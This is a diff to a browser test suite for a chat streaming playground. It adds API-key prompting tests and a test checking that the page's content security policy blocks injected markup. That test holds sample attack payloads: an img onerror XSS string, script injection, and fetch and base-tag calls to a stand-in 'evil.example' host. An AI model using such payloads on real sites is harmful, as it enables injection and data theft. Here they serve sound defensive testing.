@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import hashlib
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any, Literal
 
@@ -19,6 +21,7 @@ TEXT = (
     * 3
 )
 TRANSPORTS = ["fetch", "native"]
+KEY = "csk_for-these-tests-alone"
 
 
 @pytest.fixture(scope="module")
@@ -28,8 +31,29 @@ def service(tmp_path_factory: pytest.TempPathFactory, simulator: Server) -> Iter
     server.stop()
 
 
+@pytest.fixture(scope="module")
+def locked(tmp_path_factory: pytest.TempPathFactory, simulator: Server) -> Iterator[Server]:
+    """A service that asks for credentials."""
+    keys = f"tests:{hashlib.sha256(KEY.encode()).hexdigest()}"
+    server = launch(tmp_path_factory.mktemp("service"), simulator, reconnect_ms=200, retry_wait=0.01, api_keys=keys)
+    yield server
+    server.stop()
+
+
 @pytest.fixture
 def page(browser: Browser, service: Server) -> Iterator[Page]:
+    with playground(browser, service) as page:
+        yield page
+
+
+@pytest.fixture
+def locked_page(browser: Browser, locked: Server) -> Iterator[Page]:
+    with playground(browser, locked) as page:
+        yield page
+
+
+@contextmanager
+def playground(browser: Browser, service: Server) -> Iterator[Page]:
     """The playground, opened. Whatever the browser complains about, violations of its policy included, is a failure."""
     complaints: list[str] = []
     with browser.new_context() as context:
@@ -191,6 +215,135 @@ def test_markup_is_text(page: Page) -> None:
     assert ended(page) == text
     assert page.locator("#answer img, #answer script").count() == 0
     assert page.title() == "chat-sse playground"
+
+
+def test_the_policy_holds(browser: Browser, service: Server) -> None:
+    """Even if markup got into the page, neither it nor a script in it would run, nor load or send anything."""
+    attacks = """() => {
+      window.blocked = [];
+      document.addEventListener("securitypolicyviolation", (event) => blocked.push(event.effectiveDirective));
+      const tried = [];
+      const attack = (name, what) => {
+        try {
+          what();
+          tried.push(name);
+        } catch ({ name: error }) {
+          tried.push(`${name}: ${error}`);
+        }
+      };
+      attack("markup", () => (document.body.innerHTML = "<img src=x onerror=document.title='owned'>"));
+      attack("script", () => {
+        const script = document.createElement("script");
+        script.append("document.title = 'owned'");
+        document.body.append(script);
+      });
+      attack("image", () => (new Image().src = "/healthz?stolen"));
+      attack("fetch", () => void fetch("https://evil.example/").catch(() => 0));
+      const add = (name, what) => document.head.append(Object.assign(document.createElement(name), what));
+      attack("base", () => add("base", { href: "//evil.example" }));
+      attack("frame", () => add("iframe", { src: "/client.js" }));
+      return tried;
+    }"""
+    with browser.new_context() as context:
+        page = context.new_page()
+        page.goto(service.url)
+        answered: list[str] = []
+        page.on("response", lambda response: answered.append(response.url))
+        assert page.evaluate(attacks) == ["markup: TypeError", "script", "image", "fetch", "base", "frame"]
+        # The script is stopped by the first of the two policies that forbid it.
+        expected = sorted(["require-trusted-types-for"] * 2 + ["img-src", "connect-src", "base-uri", "frame-src"])
+        wait_until(lambda: sorted(page.evaluate("window.blocked")) == expected)
+        assert page.evaluate("document.baseURI") == f"{service.url}/"
+        assert page.title() == "chat-sse playground"
+        assert answered == []
+
+
+# With credentials.
+
+
+def unlock(page: Page, key: str = KEY) -> None:
+    expect(page.get_by_label("API key", exact=True)).to_be_focused()
+    page.keyboard.type(key)
+    page.keyboard.press("Enter")
+
+
+@pytest.mark.parametrize("transport", TRANSPORTS)
+def test_a_key_is_asked_for(locked_page: Page, transport: str) -> None:
+    """Refused for want of a key, the page asks for one, and then asks again; a wrong key is asked for again."""
+    page = locked_page
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    field = page.get_by_label("API key", exact=True)
+    expect(field).to_be_hidden()
+    ask(page, TEXT, "sim-echo?rate=200&first=0", transport)
+    for code in ("unauthenticated", "unauthenticated"):
+        expect(page.locator("#state")).to_have_text(f"error: {code}")
+        expect(page.locator("#ending")).to_contain_text("Refused with 401:")
+        unlock(page, "csk_wrong")
+    expect(page.locator("#ending")).to_contain_text("Refused with 401:")
+    unlock(page, f" {KEY} ")  # as it may come out of a clipboard
+    assert ended(page) == TEXT
+    expect(field).to_be_hidden()
+    expect(page.get_by_role("button", name="Change the API key")).to_be_visible()
+
+    # Nothing has it but the page's memory and the headers.
+    assert (field.get_attribute("type"), field.get_attribute("autocomplete")) == ("password", "off")
+    assert field.input_value() == ""
+    assert not [url for url in [*asked, page.url] if "csk_" in url]
+    kept = page.evaluate("[document.cookie, ...Object.values(localStorage), ...Object.values(sessionStorage)].join()")
+    assert kept == ""
+    assert KEY not in page.content()
+
+
+def test_a_key_is_given_before(locked_page: Page) -> None:
+    """A button opens the field before anything is refused; what cannot be a key is not taken; empty forgets it."""
+    page = locked_page
+    page.click("#keys")
+    unlock(page, "two words")
+    expect(page.locator("#key:invalid")).to_be_visible()
+    page.fill("#key", KEY)
+    page.keyboard.press("Enter")
+    expect(page.get_by_label("Prompt", exact=True)).to_be_focused()
+    ask(page, "hi", "sim-echo?rate=0&first=0")
+    assert ended(page) == "hi"
+    page.click("#keys")
+    unlock(page, "")
+    ask(page, "hi", "sim-echo?rate=0&first=0")
+    expect(page.locator("#state")).to_have_text("error: unauthenticated")
+
+
+@pytest.mark.parametrize("transport", TRANSPORTS)
+def test_a_second_tab_needs_no_key(locked_page: Page, locked: Server, simulator: Server, transport: str) -> None:
+    """The link to a second tab opens that stream to it, to read, compare and stop; its ticket is sent to no log."""
+    before = stats(simulator)["streams_aborted"]
+    page = locked_page
+    page.click("#keys")
+    unlock(page)
+    ask(page, "hi", "never-ends", transport)
+    wait_until(lambda: len(answer(page)) > 20)
+    assert "?stream=" in page.url
+    assert "#ticket=" in page.url
+    loaded: list[str] = []
+    page.context.on("request", lambda request: loaded.append(request.url) if request.is_navigation_request() else None)
+    with page.context.expect_page() as opening:
+        page.click("#second")
+    second = opening.value
+    wait_until(lambda: len(answer(second)) > 20)
+    second.reload()
+    wait_until(lambda: len(answer(second)) > 20)
+    second.click("#drop")
+    expect(second.locator("#resumed")).to_have_text("1×")
+    second.click("#stop")
+    wait_until(lambda: stats(simulator)["streams_aborted"] == before + 1)
+    assert ended(second) == ended(page)
+    ticket = page.url.partition("#ticket=")[2]
+    assert ticket
+    assert ticket not in locked.text()
+    second.goto("about:blank")
+    second.goto(page.url.partition("#")[0])
+    expect(second.locator("#state")).to_have_text("error: unauthenticated")
+    unlock(second)
+    assert ended(second) == answer(page)
 
 
 def test_the_reader_may_scroll(page: Page) -> None:
